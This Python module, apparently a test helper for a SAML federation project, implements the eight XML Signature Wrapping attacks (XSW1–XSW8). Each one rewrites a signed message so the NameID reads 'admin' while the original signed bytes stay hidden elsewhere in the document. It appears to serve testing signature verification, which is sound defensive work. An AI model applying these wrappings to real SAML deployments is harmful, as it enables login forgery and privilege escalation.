"""How is a signed element hidden in an unsigned one? The eight ways of signature wrapping (SAMLRaider's XSW1 to XSW8).

Each takes a good message and returns one that says whatever `evil` does with a copy of what was signed, while the
signed bytes are still in the message, somewhere. Numbers are those of the tool.
"""

from collections.abc import Callable, Iterator
from copy import deepcopy
from dataclasses import dataclass

from lxml import etree

from federation.saml.identity_provider import DS, SAML, SAMLP, Element

Evil = Callable[[Element], None]


@dataclass(frozen=True, slots=True)
class Wrapped:
    """A message that was wrapped, and by which way around which element."""

    way: str
    root: Element


def become_admin(copy: Element) -> None:
    """Name another user in a copy of what was signed."""
    for name in copy.iter(f"{SAML}NameID"):
        name.text = "admin"


def all_ways(root: Element, target: str, *, new_ids: bool) -> Iterator[Wrapped]:
    """Yield every wrapping of the response or of its assertion: `target` is the name of what is wrapped."""
    for way, wrap in _WAYS.items():
        message = deepcopy(root)
        signed = message if target == "Response" else message.find(f"{SAML}{target}")
        assert signed is not None
        evil = deepcopy(signed)
        become_admin(evil)
        if new_ids:
            evil.set("ID", "_evil")
        result = wrap(message, signed, evil)
        if result is not None:
            yield Wrapped(f"{way} {target} {'new ids' if new_ids else 'same ids'}", result)


def _signature(element: Element) -> Element | None:
    return element.find(f"{DS}Signature")


def _stripped(element: Element) -> Element:
    """Return a copy without its signature: what the signature was made over."""
    copy = deepcopy(element)
    if (signature := _signature(copy)) is not None:
        copy.remove(signature)
    copy.tail = None
    return copy


def _in_place(message: Element, signed: Element, evil: Element) -> Element:
    """Return the message with the evil copy where the signed one was."""
    if message is signed:
        return evil
    message.replace(signed, evil)
    return message


def _inside_signature(message: Element, signed: Element, evil: Element) -> Element | None:
    if (signature := _signature(evil)) is None:
        return None
    signature.append(_stripped(signed))
    return _in_place(message, signed, evil)


def _before_signature(message: Element, signed: Element, evil: Element) -> Element | None:
    if (signature := _signature(evil)) is None:
        return None
    signature.addprevious(_stripped(signed))
    return _in_place(message, signed, evil)


def _evil_sibling_first(message: Element, signed: Element, evil: Element) -> Element | None:
    if message is signed:
        return None
    unsigned = _stripped(evil)
    become_admin(unsigned)
    signed.addprevious(unsigned)
    return message


def _evil_around_signed(message: Element, signed: Element, evil: Element) -> Element:
    around = _stripped(evil)
    around.append(deepcopy(signed))
    return _in_place(message, signed, around)


def _original_at_the_end(message: Element, signed: Element, evil: Element) -> Element | None:
    if message is signed or _signature(evil) is None:
        return None
    original = _stripped(signed)
    message.replace(signed, evil)
    message.append(original)
    return message


def _original_inside_key_info(message: Element, signed: Element, evil: Element) -> Element | None:
    if (signature := _signature(evil)) is None:
        return None
    key_info = signature.find(f"{DS}KeyInfo")
    if key_info is None:
        key_info = etree.SubElement(signature, f"{DS}KeyInfo")
    key_info.append(_stripped(signed))
    return _in_place(message, signed, evil)


def _evil_in_extensions(message: Element, signed: Element, evil: Element) -> Element | None:
    if message is signed:
        return None
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(_stripped(evil))
    signed.addprevious(extensions)
    return message


def _original_in_object(message: Element, signed: Element, evil: Element) -> Element | None:
    if (signature := _signature(evil)) is None:
        return None
    etree.SubElement(signature, f"{DS}Object").append(_stripped(signed))
    return _in_place(message, signed, evil)


_WAYS: dict[str, Callable[[Element, Element, Element], Element | None]] = {
    "XSW1": _inside_signature,
    "XSW2": _before_signature,
    "XSW3": _evil_sibling_first,
    "XSW4": _evil_around_signed,
    "XSW5": _original_at_the_end,
    "XSW6": _original_inside_key_info,
    "XSW7": _evil_in_extensions,
    "XSW8": _original_in_object,
}
